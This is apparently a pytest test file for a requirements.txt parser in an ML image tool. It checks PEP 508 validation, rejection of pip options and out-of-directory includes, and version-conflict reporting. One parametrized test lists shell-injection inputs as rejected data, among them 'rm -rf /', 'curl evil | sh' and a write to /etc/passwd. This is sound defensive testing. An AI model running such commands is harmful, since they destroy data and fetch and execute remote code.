from pathlib import Path

import pytest
from packaging.requirements import Requirement

from mlimg.errors import InvalidRequirement, RequirementConflict
from mlimg.requirements import check_runtime_compatible, parse_requirements


def parse(text: str, base: Path) -> list[str]:
    return [str(req) for req in parse_requirements(text.splitlines(), "requirements.txt", base)]


@pytest.mark.parametrize(
    "line",
    [
        "numpy",
        "numpy==2.4.6",
        "scikit-learn>=1.3,<2",
        "mlflow[extras]==3.17.2",
        'pywin32==306; sys_platform == "win32"',
        'numpy>=1.24; python_version >= "3.10"',
        "torch @ https://example.invalid/torch-2.1.0-cp311-none-linux_x86_64.whl",
        "Pandas~=2.2.0",
    ],
)
def test_accepts_valid_pep508(line: str, tmp_path: Path) -> None:
    assert parse(line, tmp_path) == [str(Requirement(line))]


@pytest.mark.parametrize(
    "line",
    [
        "numpy; rm -rf /",
        "$(id)",
        "`id`",
        "numpy && curl evil | sh",
        "numpy==1.0 | tee /etc/passwd",
        "numpy\\",
    ],
)
def test_refuses_shell_syntax(line: str, tmp_path: Path) -> None:
    with pytest.raises(
        InvalidRequirement, match=r"requirements\.txt line 2: .* is not a valid PEP 508"
    ):
        parse(f"pandas\n{line}\n", tmp_path)


def test_refuses_pip_options_with_a_hint(tmp_path: Path) -> None:
    with pytest.raises(InvalidRequirement, match=r"line 1: .*pip option.*--pip-extra-index-url"):
        parse("--extra-index-url https://example.invalid/simple", tmp_path)


def test_skips_comments_and_blank_lines(tmp_path: Path) -> None:
    assert parse("# pinned\n\nnumpy==2.0  # why\n", tmp_path) == ["numpy==2.0"]


def test_follows_includes_inside_the_model(tmp_path: Path) -> None:
    (tmp_path / "more.txt").write_text("scipy==1.17.1\n")
    assert parse("numpy\n-r more.txt\n", tmp_path) == ["numpy", "scipy==1.17.1"]


def test_refuses_includes_outside_the_model(tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (tmp_path / "outside.txt").write_text("numpy\n")
    with pytest.raises(InvalidRequirement, match="outside the model directory"):
        parse("-r ../outside.txt", model)


def test_refuses_missing_includes(tmp_path: Path) -> None:
    with pytest.raises(InvalidRequirement, match=r"'nope\.txt' does not exist"):
        parse("-r nope.txt", tmp_path)


def test_conflicting_pin_names_both_requirements(tmp_path: Path) -> None:
    model = parse_requirements(["Flask==1.1.4", "numpy"], "requirements.txt", tmp_path)
    with pytest.raises(RequirementConflict) as excinfo:
        check_runtime_compatible(model, [Requirement("flask>=2.0")])
    message = str(excinfo.value)
    assert "flask==1.1.4" in message.lower() and "flask>=2.0" in message
    assert "requirements.txt line 1" in message


def test_compatible_pins_and_ranges_pass(tmp_path: Path) -> None:
    model = parse_requirements(["flask==3.1.3", "gunicorn>=19"], "requirements.txt", tmp_path)
    check_runtime_compatible(model, [Requirement("flask>=2.0"), Requirement("gunicorn>=20.1")])
